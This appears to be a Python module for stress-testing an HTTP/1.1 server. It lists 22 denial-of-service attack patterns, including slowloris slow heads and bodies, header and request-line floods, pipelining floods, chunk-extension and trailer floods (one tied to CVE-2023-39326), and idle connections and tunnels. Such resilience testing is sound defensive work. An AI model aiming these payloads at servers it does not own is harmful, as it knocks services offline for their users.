"""Attacks over HTTP/1.1 on a port that reads it: slowness, floods, and heads and bodies that never end.

`place.host` is the `Host` that a request names; `place.large` the path of a long answer, `place.upload` the path of
what reads a body, `place.hang` of what never answers.
"""


def request(place, method="GET", path="/", more=""):
    return f"{method} {path} HTTP/1.1\r\nHost: {place.host}\r\n{more}\r\n".encode()


def beginning(place, method="GET", path="/", more=""):
    """A head that has not ended."""
    return request(place, method, path, more)[:-2]


def chunked(place):
    return request(place, "POST", place.upload, "Transfer-Encoding: chunked\r\n")


def slow_heads(storm, place):
    """Heads that grow by a line every half second (slowloris)."""
    storm.connections(1000, beginning(place), b"X-A: b\r\n", every_s=0.5)


def slow_bodies(storm, place):
    """Bodies that grow by a byte every half second."""
    storm.connections(500, request(place, "POST", place.upload, "Content-Length: 1000000\r\n"), b"x", every_s=0.5)


def slow_readers(storm, place):
    """Long answers that nobody reads."""
    storm.connections(200, request(place, path=place.large), reads=False)


def header_flood(storm, place):
    """Heads of short lines without an end."""
    storm.connections(16, beginning(place), b"X-A: b\r\n" * 4000)


def huge_heads(storm, place):
    """Heads of one line without an end."""
    storm.connections(16, beginning(place) + b"X-Huge: ", b"h" * 65536)


def huge_targets(storm, place):
    """Request lines without an end."""
    storm.connections(16, b"GET /", b"t" * 65536)


def blank_lines(storm, place):
    """Empty lines where a request should begin."""
    storm.connections(16, b"", b"\r\n" * 8000)


def garbage(storm, place):
    """What is no HTTP."""
    storm.connections(64, bytes(range(1, 256)) * 16, at_close=True)


def pipelining_flood(storm, place):
    """Requests, one behind the other, as fast as answers are read."""
    storm.connections(8, b"", request(place) * 100)


def pipelining_unread(storm, place):
    """Requests, one behind the other, whose answers are not read."""
    storm.connections(64, b"", request(place) * 100, reads=False)


def chunk_extension_flood(storm, place):
    """A chunk whose extension never ends (CVE-2023-39326)."""
    storm.connections(16, chunked(place) + b"1;", b"e" * 65536)


def chunk_extensions(storm, place):
    """Chunks of one byte, each with a long extension."""
    storm.connections(8, chunked(place), (b"1;" + b"e" * 4000 + b"\r\nx\r\n") * 16)


def tiny_chunks(storm, place):
    """Chunks of one byte."""
    storm.connections(8, chunked(place), b"1\r\nx\r\n" * 8000)


def chunk_size_flood(storm, place):
    """The size of a chunk, in zeros without an end."""
    storm.connections(16, chunked(place), b"0" * 65536)


def trailer_flood(storm, place):
    """Trailers without an end."""
    storm.connections(16, chunked(place) + b"0\r\n", b"X-T: v\r\n" * 4000)


def awaited_continue(storm, place):
    """Bodies announced with `Expect: 100-continue` that never come."""
    storm.connections(500, request(place, "POST", place.upload, "Content-Length: 9\r\nExpect: 100-continue\r\n"))


def hanging_requests(storm, place):
    """Requests to what does not answer."""
    storm.connections(1000, request(place, path=place.hang))


def idle_connections(storm, place):
    """Connections that say nothing."""
    storm.connections(2000)


def connection_flood(storm, place):
    """Connections, closed as soon as they are open."""
    storm.connections(64, b"G", at_close=True)


def one_request_each(storm, place):
    """Connections with one request, closed before its answer."""
    storm.connections(64, request(place), at_close=True)


def idle_tunnels(storm, place):
    """Tunnels in which nothing is said."""
    storm.connections(1000, f"CONNECT {place.host}:80 HTTP/1.1\r\nHost: {place.host}:80\r\n\r\n".encode())


def unread_tunnels(storm, place):
    """Long answers in tunnels that nobody reads."""
    tunnel = f"CONNECT {place.host}:80 HTTP/1.1\r\nHost: {place.host}:80\r\n\r\n".encode()
    storm.connections(200, tunnel + request(place, path=place.large), reads=False)


ATTACKS = (
    slow_heads, slow_bodies, slow_readers, header_flood, huge_heads, huge_targets, blank_lines, garbage,
    pipelining_flood, pipelining_unread, chunk_extension_flood, chunk_extensions, tiny_chunks, chunk_size_flood,
    trailer_flood, awaited_continue, hanging_requests, idle_connections, connection_flood, one_request_each,
    idle_tunnels, unread_tunnels,
)
